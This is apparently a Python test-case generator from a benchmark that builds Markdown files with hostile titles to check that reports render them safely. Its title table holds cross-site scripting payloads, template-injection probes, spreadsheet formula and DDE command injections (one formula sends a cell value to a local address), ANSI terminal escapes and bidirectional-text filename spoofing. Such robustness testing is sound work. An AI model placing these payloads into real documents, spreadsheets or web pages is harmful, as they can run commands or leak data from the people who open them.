"""Contents that would act in a browser, a spreadsheet, a terminal or a Markdown viewer if a report let them."""

from collections.abc import Iterator

from benchmarks.invariance_cases.formats import to_docx
from benchmarks.robustness_cases.case import Case, honest

_TITLES = {
    "script": "<script>alert(document.domain)</script>",
    "handler": '"><img src=x onerror=alert(1)>',
    "end-of-style": "</style></script><script>alert(1)</script>",
    "template": "{{ 7 * 7 }} {% for x in y %} ${7*7} <%= 7*7 %>",
    "formula": '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"click")',
    "command": "+cmd|' /C calc'!A0",
    "at-sign": "@SUM(1+1)*cmd|' /C calc'!A0",
    "full-width-formula": "＝1+1",
    "ansi": "\x1b[2J\x1b[31mAll passed\x1b[0m\x1b]8;;http://127.0.0.1:9\x07link\x1b]8;;\x07",
    "c1-controls": "\x9b31mred\x9b0m \x90q\x9c",
    "direction": "\u202egnp.exe\u202c and \u2066isolated\u2069",
    "line-separators": "one\u2028two\u2029three\x85four\x0bfive",
    "link": "[click](javascript:alert(1)) ![x](http://127.0.0.1:9/a.png) <http://127.0.0.1:9>",
    "table-breaker": "a | b | c \\| d ` e `` f",
    "data-url": "data:text/html,<script>alert(1)</script>",
    "log-line": "done\r\n2031-01-01 00:00:00 INFO 150 graded, 0 skipped",
}


def cases() -> Iterator[Case]:
    body = honest().partition("\n")[2]
    for name, title in _TITLES.items():
        heading = title.replace("\r\n", " ").replace("\n", " ")
        cell = title.partition("\r")[0].replace("|", "")
        row = f"| what | {heading.replace('|', '')} |\n|---|---|\n| {cell} | why |"
        text = f"# {heading}\n\n{title}\n{body}\n## {heading}\n\n- {title}\n\n{row}\n"
        yield Case("markup", f"{name}.md", text)
    yield Case("markup", "control.docx", to_docx(honest()), clean=True)
